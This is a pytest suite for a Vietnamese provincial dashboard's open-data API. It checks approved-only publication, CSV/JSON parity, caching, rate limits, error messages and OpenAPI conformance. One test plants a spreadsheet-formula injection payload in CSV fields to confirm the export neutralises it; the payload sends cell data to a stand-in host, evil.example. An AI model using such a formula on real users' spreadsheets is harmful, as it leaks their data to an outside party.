"""The open-data API `/api/v1/...`: approved figures only (an unapproved value never appears),
the same numbers as the approved-only computation, ETag/304, CORS, 400 for bad parameters,
429 over the rate limit, inert CSV, English with `lang=en`, and an OpenAPI document that
describes what the endpoints answer."""

from __future__ import annotations

import csv
import datetime as dt
import io

import pytest
import sqlalchemy as sa

from dashboard import api
from dashboard.models import DistrictReport, IndicatorValue, OrgUnit, User
from dashboard.services import indicators as svc
from dashboard.services import workflow

pytestmark = pytest.mark.db

MARKER = 918_273_645  # a distinctive number only an unapproved district holds


# --- helpers ---------------------------------------------------------------------------------


def read_csv(response) -> tuple[list[str], list[dict]]:
    text = response.get_data().decode("utf-8-sig")
    reader = csv.DictReader(io.StringIO(text))
    rows = list(reader)
    return list(reader.fieldnames or []), rows


def by_code(payload: dict) -> dict[str, dict]:
    return {row["code"]: row for row in payload["data"]}


def user(session, name: str) -> User:
    return session.scalar(sa.select(User).where(User.username == name))


def iso(value: dt.datetime | None) -> str | None:
    return None if value is None else value.replace(microsecond=0).isoformat() + "Z"


def number(value):
    """What the API writes for a figure's number: whole values as integers."""
    if value is None:
        return None
    return int(value) if float(value).is_integer() else value


def expected_rows(session, period_code: str, district_code: str | None = None) -> dict:
    """The approved-only computation, field by field, as the API must publish it."""
    period = svc.get_period(session, period_code)
    district = svc.district_by_code(session, district_code) if district_code else None
    district_id = district.id if district else None
    rows = {}
    for ind, prog, _figures in svc.summary(session, period, district_id, approved_only=True):
        fig = prog.figure
        rows[ind.code] = {
            "value": number(fig.value),
            "numerator": number(fig.numerator) if fig.published else None,
            "denominator": number(fig.denominator) if fig.published else None,
            "units_expected": fig.expected,
            "units_reported": fig.reported,
            "units_approved": fig.approved,
            "met": prog.met,
            "published": fig.published,
            "target": number(prog.target.target_value) if prog.target else None,
        }
    return rows


def set_value(session, code: str, unit: OrgUnit, period_code: str, **fields) -> None:
    """Set (or, with no fields, delete) one unit's value of an indicator for a period."""
    ind = svc.get_indicator(session, code)
    period = svc.get_period(session, period_code)
    row = session.scalar(
        sa.select(IndicatorValue).where(
            IndicatorValue.indicator_id == ind.id,
            IndicatorValue.period_id == period.id,
            IndicatorValue.unit_id == unit.id,
        )
    )
    if not fields:
        if row is not None:
            session.delete(row)
        return
    if row is None:
        row = IndicatorValue(indicator_id=ind.id, period_id=period.id, unit_id=unit.id)
        session.add(row)
    for name, value in fields.items():
        setattr(row, name, value)
    row.updated_at = dt.datetime(2024, 1, 5, 3, 0, 0)


def rural_communes(session, district: OrgUnit, day: dt.date) -> list[OrgUnit]:
    return list(
        session.scalars(
            sa.select(OrgUnit)
            .where(OrgUnit.parent_id == district.id, OrgUnit.kind == "xa", OrgUnit.valid_on(day))
            .order_by(OrgUnit.gso_code)
        )
    )


@pytest.fixture
def hand_made(session):
    """2023, a small known state: Pleiku (622) approved, An Khê (623) submitted only.

    - district dossiers (GOV-DOSSIER-DIST): Pleiku 777/1000; An Khê MARKER/(MARKER + 1);
    - criterion 8.4 (GOV-C8_4) in Pleiku's rural communes: the first has no value, the second
      is not met, the others are met; An Khê's communes all hold the marker-free value "met".
    """
    period = svc.get_period(session, "2023")
    assert not session.scalars(
        sa.select(DistrictReport).where(DistrictReport.period_id == period.id)
    ).all(), "the demo left 2023 open"
    pleiku = svc.district_by_code(session, "622")
    an_khe = svc.district_by_code(session, "623")
    set_value(session, "GOV-DOSSIER-DIST", pleiku, "2023", numerator=777, denominator=1000)
    set_value(session, "GOV-DOSSIER-DIST", an_khe, "2023", numerator=MARKER, denominator=MARKER + 1)
    communes = rural_communes(session, pleiku, period.end_date)
    assert len(communes) >= 3
    set_value(session, "GOV-C8_4", communes[0], "2023")
    set_value(session, "GOV-C8_4", communes[1], "2023", value_bool=False)
    for commune in communes[2:]:
        set_value(session, "GOV-C8_4", commune, "2023", value_bool=True)
    for commune in rural_communes(session, an_khe, period.end_date):
        set_value(session, "GOV-C8_4", commune, "2023", value_bool=True)
    session.commit()
    workflow.transition(session, user(session, "editor-622"), "submit", "622", "2023")
    report = workflow.transition(session, user(session, "admin"), "approve", "622", "2023")
    workflow.transition(session, user(session, "editor-623"), "submit", "623", "2023")
    return {"communes": len(communes), "approved_at": report.decided_at}


# --- the figures ---------------------------------------------------------------------------


def test_kpis_need_no_login_and_equal_the_approved_only_computation(client, session):
    """Catches a field taken from the wrong place (numerator for denominator, expected for
    reported), a row missing or extra, or a login demanded of the public."""
    response = client.get("/api/v1/kpis?period=2022")
    assert response.status_code == 200
    assert response.mimetype == "application/json"
    payload = response.get_json()
    assert payload["period"] == "2022" and payload["district"] is None
    period = svc.get_period(session, "2022")
    assert payload["as_of"] == iso(workflow.as_of(session, period).approved_at)
    assert payload["as_of"] is not None
    expected = expected_rows(session, "2022")
    rows = by_code(payload)
    assert list(rows) == list(expected)
    for code, row in rows.items():
        assert list(row) == list(api.KPI_FIELDS), code
        assert {k: row[k] for k in expected[code]} == expected[code], code
        assert row["period"] == "2022" and row["as_of"] == payload["as_of"]
    # 2022 is fully approved: real numbers, not nulls.
    assert rows["GOV-C8_4"]["units_approved"] == rows["GOV-C8_4"]["units_expected"] == 182
    assert isinstance(rows["GOV-C8_4"]["value"], float)


def test_a_district_leaves_out_province_level_indicators(client, session):
    """Catches a district answer that carries province-level rows or the province's figures."""
    payload = client.get("/api/v1/kpis?period=2022&district=622").get_json()
    assert payload["district"] == "622"
    rows = by_code(payload)
    assert "GOV-DOSSIER-PROV" not in rows
    expected = expected_rows(session, "2022", "622")
    assert list(rows) == list(expected)
    for code, row in rows.items():
        assert {k: row[k] for k in expected[code]} == expected[code], code
        assert row["district"] == "622"
    assert rows["GOV-C8_4"]["units_expected"] < 182


def test_the_province_counts_only_the_approved_district(client, session, hand_made):
    """Catches an approved-only figure computed over every unit or including An Khê's
    submitted (unapproved) report, and a missing value counted as "not met"."""
    n = hand_made["communes"]
    payload = client.get("/api/v1/kpis?period=2023").get_json()
    assert payload["as_of"] == iso(hand_made["approved_at"])
    rows = by_code(payload)
    dossiers = rows["GOV-DOSSIER-DIST"]
    assert (dossiers["numerator"], dossiers["denominator"]) == (777, 1000)
    assert dossiers["value"] == pytest.approx(77.7)
    assert (dossiers["units_expected"], dossiers["units_reported"]) == (17, 1)
    assert dossiers["units_approved"] == 1 and dossiers["published"] is True
    assert dossiers["met"] is False  # target 80%

    c84 = rows["GOV-C8_4"]
    assert svc.get_indicator(session, "GOV-C8_4").denominator_rule == "reported"
    # n communes approved, one of them without a value: n - 1 reported, n - 2 met.
    assert (c84["numerator"], c84["denominator"]) == (n - 2, n - 1)
    assert c84["units_approved"] == n and c84["units_reported"] == n - 1
    assert c84["units_expected"] == 182
    assert c84["value"] == pytest.approx(100.0 * (n - 2) / (n - 1))

    expected = expected_rows(session, "2023")
    for code, row in rows.items():
        assert {k: row[k] for k in expected[code]} == expected[code], code
    # All data (not published) differs: the approved-only rule is what the API applies.
    everything = svc.compute(
        session,
        svc.get_indicator(session, "GOV-DOSSIER-DIST"),
        svc.get_period(session, "2023"),
    )
    assert everything.numerator != dossiers["numerator"]


@pytest.mark.parametrize(
    "query",
    [
        "period=2023",
        "period=2023&format=csv",
        "period=2023&district=623",
        "period=2023&district=623&format=csv",
        "period=2023&district=622",
        "period=2023&district=622&format=csv&lang=en",
    ],
)
def test_an_unapproved_value_never_appears(client, session, hand_made, query):
    """Catches the API publishing An Khê's submitted but unapproved figures, in a total or on
    its own, in JSON or CSV."""
    response = client.get(f"/api/v1/kpis?{query}")
    assert response.status_code == 200
    text = response.get_data().decode("utf-8-sig")
    assert str(MARKER) not in text and str(MARKER + 1) not in text
    # The value is there to be leaked: all data would show it.
    figure = svc.compute(
        session,
        svc.get_indicator(session, "GOV-DOSSIER-DIST"),
        svc.get_period(session, "2023"),
        svc.district_by_code(session, "623").id,
    )
    assert figure.numerator == MARKER


def test_a_district_without_approval_has_no_published_figure(client, hand_made):
    """Catches 0 (or the unapproved value) published for a district whose report is only
    submitted: every value is null, nothing is "not met"."""
    payload = client.get("/api/v1/kpis?period=2023&district=623").get_json()
    assert payload["as_of"] is None
    for row in payload["data"]:
        assert row["value"] is None, row["code"]
        assert row["numerator"] is None and row["denominator"] is None, row["code"]
        assert row["published"] is False and row["met"] is None, row["code"]
        assert row["units_approved"] == 0 and row["units_reported"] == 0, row["code"]
        assert row["units_expected"] > 0, row["code"]


def test_a_period_without_approval_is_null_never_zero(client):
    """Catches 2024 (no district approved) published as 0% and "not met"."""
    payload = client.get("/api/v1/kpis?period=2024").get_json()
    assert payload["as_of"] is None
    district_rows = [r for r in payload["data"] if r["code"] != "GOV-DOSSIER-PROV"]
    assert district_rows
    for row in district_rows:
        assert row["value"] is None and row["met"] is None, row["code"]
        assert row["published"] is False, row["code"]


def test_csv_has_the_same_rows_as_json(client, hand_made):
    """Catches a CSV with other columns, other rows, or numbers written differently."""
    json_rows = client.get("/api/v1/kpis?period=2023").get_json()["data"]
    response = client.get("/api/v1/kpis?period=2023&format=csv")
    assert response.status_code == 200
    assert response.mimetype == "text/csv"
    assert response.headers["Content-Disposition"] == 'attachment; filename="kpis-2023.csv"'
    assert response.get_data().startswith("\ufeff".encode())
    header, rows = read_csv(response)
    assert header == list(api.KPI_FIELDS)

    def text(value) -> str:
        if isinstance(value, bool):
            return "true" if value else "false"
        return "" if value is None else str(value)

    assert rows == [{k: text(v) for k, v in row.items()} for row in json_rows]
    dossiers = next(r for r in rows if r["code"] == "GOV-DOSSIER-DIST")
    assert (dossiers["numerator"], dossiers["denominator"]) == ("777", "1000")


# --- English, definitions and units ---------------------------------------------------------


def test_lang_en_gives_english_names_and_messages(client, session):
    """Catches `lang=en` ignored (Vietnamese names or messages) or Vietnamese lost by default."""
    ind = svc.get_indicator(session, "GOV-C8_4")
    english = by_code(client.get("/api/v1/kpis?period=2022&lang=en").get_json())["GOV-C8_4"]
    vietnamese = by_code(client.get("/api/v1/kpis?period=2022").get_json())["GOV-C8_4"]
    assert english["name"] == ind.name_en != ind.name_vi == vietnamese["name"]
    assert english["name_vi"] == vietnamese["name_vi"] == ind.name_vi
    definitions = by_code(client.get("/api/v1/indicators?lang=en").get_json())
    assert definitions["GOV-C8_4"]["name"] == ind.name_en
    error = client.get("/api/v1/kpis?period=1999&lang=en").get_json()
    assert error["error"].startswith("There is no yearly reporting period")
    assert client.get("/api/v1/kpis?period=1999").get_json()["error"].startswith("Không có kỳ")
    doc = client.get("/api/v1/openapi.json?lang=en").get_json()
    assert doc["info"]["title"].startswith("Open data API")


def test_the_language_cookie_does_not_change_a_cacheable_answer(client, session):
    """Catches names following the `lang` cookie of the app's pages: a shared cache would then
    hand English names to a Vietnamese reader of the same URL."""
    plain = client.get("/api/v1/kpis?period=2022")
    client.set_cookie("lang", "en")
    with_cookie = client.get("/api/v1/kpis?period=2022")
    assert with_cookie.get_data() == plain.get_data()
    assert by_code(with_cookie.get_json())["GOV-C8_4"]["name"] == (
        svc.get_indicator(session, "GOV-C8_4").name_vi
    )
    assert "Set-Cookie" not in with_cookie.headers


def test_indicators_give_definitions_and_targets(client, session):
    """Catches a definition missing an indicator, its legal basis, rule or targets."""
    payload = client.get("/api/v1/indicators").get_json()
    rows = by_code(payload)
    assert list(rows) == [ind.code for ind in svc.list_indicators(session)]
    c84 = rows["GOV-C8_4"]
    assert c84["legal_basis"] == "Quyết định 318/QĐ-TTg (2022), chỉ tiêu 8.4"
    assert (c84["level"], c84["unit_kinds"], c84["rollup"]) == ("commune", ["xa"], "share_meeting")
    assert c84["denominator_rule"] == "reported" and c84["value_kind"] == "percent"
    # the province's target (Gia Lai before the merger, code 64), not one for each commune
    assert c84["targets"] == [
        {
            "value": 97,
            "comparator": ">=",
            "year": 2025,
            "level": "province",
            "scope": {"unit": "64", "name": "Tỉnh Gia Lai"},
            "milestones": {},
        }
    ]
    assert c84["valid_from"] == "2021-01-01"
    for code, row in rows.items():
        ind = svc.get_indicator(session, code)
        assert row["denominator_rule"] == ind.denominator_rule, code
        assert len(row["targets"]) == len(ind.targets), code
    assert rows["PILOT-SMART"]["targets"][0]["level"] == "province"
    assert rows["SOC-ESSENTIAL"]["extra_level"] == "district"


def test_units_are_those_in_existence_at_the_period_end(client, session):
    """Catches units listed regardless of validity (the 2024 merger), or a wrong parent."""
    units_2023 = client.get("/api/v1/units?period=2023").get_json()["data"]
    units_2025 = client.get("/api/v1/units?period=2025").get_json()["data"]
    for period_code, units in (("2023", units_2023), ("2025", units_2025)):
        end = svc.get_period(session, period_code).count_date  # 2025: 30/6/2025
        count = session.scalar(sa.select(sa.func.count(OrgUnit.id)).where(OrgUnit.valid_on(end)))
        assert len(units) == count
    codes_2023 = {u["gso_code"]: u for u in units_2023}
    codes_2025 = {u["gso_code"] for u in units_2025}
    assert "23593" in codes_2023 and "23593" not in codes_2025  # Tân Sơn, merged 2024-11-01
    tan_son = codes_2023["23593"]
    assert tan_son == {
        "gso_code": "23593",
        "name": "Xã Tân Sơn",
        "kind": "xa",
        "kind_name": "Xã",
        "level": "commune",
        "parent_gso_code": "622",
        "valid_from": "2020-02-01",
        "valid_to": "2024-10-31",
    }
    assert codes_2023["64"]["parent_gso_code"] is None
    assert sum(1 for u in units_2023 if u["kind"] == "xa") == 182
    assert sum(1 for u in units_2025 if u["kind"] == "xa") == 180
    assert [u["level"] for u in units_2023[:2]] == ["province", "district"]


# --- caching and CORS ------------------------------------------------------------------------


@pytest.mark.parametrize(
    "url",
    [
        "/api/v1/kpis?period=2022",
        "/api/v1/kpis?period=2022&format=csv",
        "/api/v1/indicators",
        "/api/v1/units?period=2023&format=csv",
        "/api/v1/openapi.json",
    ],
)
def test_etag_and_if_none_match(client, url):
    """Catches a missing or weak ETag, no 304 for a matching If-None-Match, no caching
    header, or answers other origins may not read."""
    first = client.get(url)
    assert first.status_code == 200
    etag = first.headers["ETag"]
    assert etag.startswith('"') and not etag.startswith("W/")
    assert first.headers["Cache-Control"] == "public, max-age=300"
    assert first.headers["Access-Control-Allow-Origin"] == "*"
    again = client.get(url, headers={"If-None-Match": etag})
    assert again.status_code == 304
    assert again.get_data() == b""
    assert again.headers["ETag"] == etag
    other = client.get(url, headers={"If-None-Match": '"something-else"'})
    assert other.status_code == 200 and other.get_data() == first.get_data()


def test_the_etag_follows_the_published_data(client, session):
    """Catches an ETag that does not change when a new approval changes the figures (clients
    would keep stale numbers), or that differs for the same body."""
    before = client.get("/api/v1/kpis?period=2023").headers["ETag"]
    assert client.get("/api/v1/kpis?period=2023").headers["ETag"] == before
    workflow.transition(session, user(session, "editor-622"), "submit", "622", "2023")
    workflow.transition(session, user(session, "admin"), "approve", "622", "2023")
    after = client.get("/api/v1/kpis?period=2023", headers={"If-None-Match": before})
    assert after.status_code == 200
    assert after.headers["ETag"] != before


# --- bad parameters --------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("url", "field", "words"),
    [
        ("/api/v1/kpis", "period", "Vui lòng nêu kỳ báo cáo"),
        ("/api/v1/kpis?period=", "period", "Vui lòng nêu kỳ báo cáo"),
        ("/api/v1/kpis?period=1999", "period", "Không có kỳ báo cáo năm “1999”"),
        ("/api/v1/kpis?period=abc", "period", "2021, 2022, 2023, 2024, 2025"),
        ("/api/v1/kpis?period=2023&district=999", "district", "Không tìm thấy đơn vị báo cáo"),
        ("/api/v1/kpis?period=2023&district=23593", "district", "mã “23593”"),
        ("/api/v1/kpis?period=2023&format=xml", "format", "Định dạng “xml”"),
        ("/api/v1/kpis?period=2023&lang=fr", "lang", "Ngôn ngữ “fr”"),
        ("/api/v1/kpis?period=2023&distric=622", "distric", "Tham số “distric”"),
        ("/api/v1/kpis?period=2023&period=2024", "period", "chỉ được nêu một lần"),
        ("/api/v1/units", "period", "Vui lòng nêu kỳ báo cáo"),
        ("/api/v1/units?period=2023&district=622", "district", "không được hỗ trợ"),
        ("/api/v1/units?period=2023&format=xlsx", "format", "json, csv"),
        ("/api/v1/indicators?period=2023", "period", "Các tham số hợp lệ: lang"),
        ("/api/v1/indicators?lang=EN", "lang", "vi hoặc en"),
        ("/api/v1/openapi.json?format=yaml", "format", "không được hỗ trợ"),
    ],
)
def test_a_bad_parameter_is_a_400_naming_it(client, url, field, words):
    """Catches a bad parameter silently ignored (a typo giving province figures), answered
    with 500 or HTML, or without the field it concerns."""
    response = client.get(url)
    assert response.status_code == 400
    assert response.mimetype == "application/json"
    payload = response.get_json()
    assert set(payload) == {"error", "field"}
    assert payload["field"] == field
    assert words in payload["error"]
    assert response.headers["Access-Control-Allow-Origin"] == "*"
    assert "ETag" not in response.headers


def test_a_district_not_in_existence_in_the_period_is_a_400(client, session):
    """Catches a district answered for a period before it existed."""
    pleiku = svc.district_by_code(session, "622")
    original = pleiku.valid_from
    pleiku.valid_from = dt.date(2024, 1, 1)
    session.commit()
    try:
        response = client.get("/api/v1/kpis?period=2023&district=622")
        assert response.status_code == 400
        assert response.get_json() == {
            "error": "Đơn vị có mã “622” không báo cáo trong kỳ 2023.",
            "field": "district",
        }
        assert client.get("/api/v1/kpis?period=2024&district=622").status_code == 200
    finally:
        pleiku = svc.district_by_code(session, "622")
        pleiku.valid_from = original
        session.commit()


# --- rate limit ------------------------------------------------------------------------------


def test_over_the_rate_limit_is_a_429_with_retry_after(app_factory, database_url):
    """Catches an API without a limit, a limit per endpoint instead of per address across the
    API, the login page's HTML answer instead of JSON, or a missing Retry-After."""
    app = app_factory(database_url, API_RATE_LIMIT="3 per minute")
    client = app.test_client()
    assert client.get("/api/v1/indicators").status_code == 200
    assert client.get("/api/v1/units?period=2023").status_code == 200
    assert client.get("/api/v1/openapi.json").status_code == 200
    refused = client.get("/api/v1/kpis?period=2023")
    assert refused.status_code == 429
    assert refused.mimetype == "application/json"
    message = refused.get_json()["error"]
    assert message.startswith("Địa chỉ của bạn đã gửi quá nhiều yêu cầu")
    seconds = int(refused.headers["Retry-After"])
    assert 1 <= seconds <= 61
    assert f"{seconds} giây" in message
    assert refused.headers["Access-Control-Allow-Origin"] == "*"
    english = client.get("/api/v1/indicators?lang=en")
    assert english.status_code == 429
    assert english.get_json()["error"].startswith("Too many requests")
    # Another address has its own allowance; the rest of the application is not limited.
    other = client.get("/api/v1/indicators", environ_base={"REMOTE_ADDR": "10.0.0.9"})
    assert other.status_code == 200
    assert client.get("/login").status_code == 200


@pytest.mark.parametrize("proxies", [0, 1])
def test_behind_a_trusted_proxy_each_client_has_its_own_allowance(
    app_factory, database_url, proxies
):
    """Catches every client behind the reverse proxy sharing one allowance (the proxy's
    address), and a forged X-Forwarded-For being believed without a proxy configured."""
    app = app_factory(database_url, API_RATE_LIMIT="1 per minute", TRUSTED_PROXIES=proxies)
    client = app.test_client()
    proxy = {"REMOTE_ADDR": "10.0.0.1"}
    first = client.get(
        "/api/v1/indicators", environ_base=proxy, headers={"X-Forwarded-For": "1.1.1.1"}
    )
    second = client.get(
        "/api/v1/indicators", environ_base=proxy, headers={"X-Forwarded-For": "2.2.2.2"}
    )
    assert first.status_code == 200
    assert second.status_code == (200 if proxies else 429)


def test_a_malformed_rate_limit_stops_the_start(app_factory, database_url):
    """Catches a typo in `API_RATE_LIMIT` that would leave the API without a limit."""
    from dashboard.config import ConfigError

    with pytest.raises(ConfigError, match="API_RATE_LIMIT"):
        app_factory(database_url, API_RATE_LIMIT="lots per minute")


def test_the_default_limit_does_not_refuse_ordinary_use(client):
    """Catches a default limit so low that a page of a few calls is refused."""
    for _ in range(10):
        assert client.get("/api/v1/openapi.json").status_code == 200


# --- CSV injection ---------------------------------------------------------------------------

HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"x")'


def test_csv_cells_cannot_run_as_formulas(client, session):
    """Catches a CSV written without `dashboard.inert`: a unit or indicator name starting
    with `=` would run as a formula in Excel. JSON keeps the text as stored."""
    commune = session.scalar(
        sa.select(OrgUnit).where(OrgUnit.gso_code == "23590").order_by(OrgUnit.valid_from)
    )
    ind = svc.get_indicator(session, "GOV-C8_4")
    old_unit, old_name = commune.name, ind.name_vi
    commune.name, ind.name_vi = HOSTILE, "+" + HOSTILE
    session.commit()
    try:
        _header, units = read_csv(client.get("/api/v1/units?period=2023&format=csv"))
        cell = next(u["name"] for u in units if u["gso_code"] == "23590")
        assert cell == "'" + HOSTILE
        _header, kpis = read_csv(client.get("/api/v1/kpis?period=2022&format=csv"))
        row = next(r for r in kpis if r["code"] == "GOV-C8_4")
        assert row["name_vi"] == "'+" + HOSTILE
        assert row["name"] == "'+" + HOSTILE
        assert all(not str(v).startswith(("=", "+", "@")) for r in kpis for v in r.values())
        data = client.get("/api/v1/units?period=2023").get_json()["data"]
        assert next(u["name"] for u in data if u["gso_code"] == "23590") == HOSTILE
    finally:
        commune = session.scalar(
            sa.select(OrgUnit).where(OrgUnit.gso_code == "23590").order_by(OrgUnit.valid_from)
        )
        ind = svc.get_indicator(session, "GOV-C8_4")
        commune.name, ind.name_vi = old_unit, old_name
        session.commit()


# --- the OpenAPI document --------------------------------------------------------------------


def resolve(doc: dict, ref: str):
    assert ref.startswith("#/"), ref
    node = doc
    for part in ref[2:].split("/"):
        assert part in node, ref
        node = node[part]
    return node


def deref(doc: dict, node: dict) -> dict:
    return resolve(doc, node["$ref"]) if "$ref" in node else node


def all_refs(node) -> list[str]:
    if isinstance(node, dict):
        found = [node["$ref"]] if isinstance(node.get("$ref"), str) else []
        return found + [r for value in node.values() for r in all_refs(value)]
    if isinstance(node, list):
        return [r for value in node for r in all_refs(value)]
    return []


TYPES = {
    "string": lambda v: isinstance(v, str),
    "integer": lambda v: isinstance(v, int) and not isinstance(v, bool),
    "number": lambda v: isinstance(v, int | float) and not isinstance(v, bool),
    "boolean": lambda v: isinstance(v, bool),
    "null": lambda v: v is None,
    "object": lambda v: isinstance(v, dict),
    "array": lambda v: isinstance(v, list),
}


def conforms(doc: dict, schema: dict, value, where: str = "$") -> None:
    """A small JSON Schema check (type, enum, const, properties, required, items)."""
    schema = deref(doc, schema)
    kinds = schema.get("type")
    if kinds is not None:
        kinds = [kinds] if isinstance(kinds, str) else kinds
        assert any(TYPES[k](value) for k in kinds), f"{where}: {value!r} is not {kinds}"
    if "enum" in schema and value is not None:
        assert value in schema["enum"], f"{where}: {value!r} not in {schema['enum']}"
    if "const" in schema:
        assert value == schema["const"], where
    if isinstance(value, dict) and "properties" in schema:
        missing = set(schema.get("required", [])) - set(value)
        assert not missing, f"{where}: missing {missing}"
        if schema.get("additionalProperties") is False:
            extra = set(value) - set(schema["properties"])
            assert not extra, f"{where}: undocumented {extra}"
        for key, item in value.items():
            if key in schema["properties"]:
                conforms(doc, schema["properties"][key], item, f"{where}.{key}")
    if isinstance(value, list) and "items" in schema:
        for i, item in enumerate(value):
            conforms(doc, schema["items"], item, f"{where}[{i}]")


def test_openapi_document_is_well_formed_and_covers_every_endpoint(app, client):
    """Catches an invalid document (dangling reference, operation without its responses), an
    endpoint left undocumented or documented but absent, and parameters that differ from the
    ones the endpoints accept."""
    doc = client.get("/api/v1/openapi.json").get_json()
    try:  # the full validator when it is installed; the structural checks below always run
        from openapi_spec_validator import validate
    except ImportError:
        validate = None
    if validate is not None:
        validate(doc)
    assert doc["openapi"].startswith("3.1.")
    assert doc["info"]["title"] and doc["info"]["version"]
    assert doc["servers"] == [{"url": "/api/v1"}]
    for ref in all_refs(doc):
        assert ref.startswith("#/components/"), ref
        resolve(doc, ref)
    routes = {
        rule.rule.removeprefix(api.API_PREFIX)
        for rule in app.url_map.iter_rules()
        if rule.rule.startswith(api.API_PREFIX + "/") and rule.endpoint != "api.not_found"
    }
    assert set(doc["paths"]) == routes
    endpoint_of = {"/kpis": "kpis", "/indicators": "indicators", "/units": "units"}
    endpoint_of["/openapi.json"] = "openapi"
    operation_ids = []
    for path, item in doc["paths"].items():
        assert set(item) == {"get"}, path
        operation = item["get"]
        operation_ids.append(operation["operationId"])
        assert operation["summary"], path
        assert {"200", "304", "400", "429"} <= set(operation["responses"]), path
        for response in operation["responses"].values():
            response = deref(doc, response)
            assert response["description"], path
            for media in response.get("content", {}).values():
                deref(doc, media["schema"])
        parameters = [deref(doc, p) for p in operation["parameters"]]
        for parameter in parameters:
            assert parameter["in"] == "query" and parameter["description"], path
            assert "type" in parameter["schema"], path
        names = [p["name"] for p in parameters]
        assert len(names) == len(set(names)), path
        assert set(names) == set(api.PARAMS[endpoint_of[path]]), path
        required = {p["name"] for p in parameters if p["required"]}
        assert required == ({"period"} & set(names)), path
    assert len(operation_ids) == len(set(operation_ids))


def test_answers_match_their_documented_schemas(client, hand_made):
    """Catches a field added, renamed or typed differently from the document (a string for a
    number, a missing null): clients generated from the document would break."""
    doc = client.get("/api/v1/openapi.json").get_json()
    schemas = doc["components"]["schemas"]
    for url, schema in (
        ("/api/v1/kpis?period=2023", "KpiList"),
        ("/api/v1/kpis?period=2022&district=622", "KpiList"),
        ("/api/v1/kpis?period=2024", "KpiList"),
        ("/api/v1/indicators", "IndicatorList"),
        ("/api/v1/units?period=2025", "UnitList"),
    ):
        conforms(doc, schemas[schema], client.get(url).get_json(), url)
    conforms(doc, schemas["Error"], client.get("/api/v1/kpis").get_json())
    assert list(schemas["Kpi"]["properties"]) == list(api.KPI_FIELDS)
    assert list(schemas["Unit"]["properties"]) == list(api.UNIT_FIELDS)


def test_a_commune_answers_for_2026_and_a_former_district_does_not(client):
    """Catches the API still looking units up as districts after the two-tier reform."""
    assert client.get("/api/v1/kpis?period=2026&district=23590").status_code == 200
    response = client.get("/api/v1/kpis?period=2026&district=622")
    assert response.status_code == 400
    assert response.get_json()["error"] == "Đơn vị có mã “622” không báo cáo trong kỳ 2026."
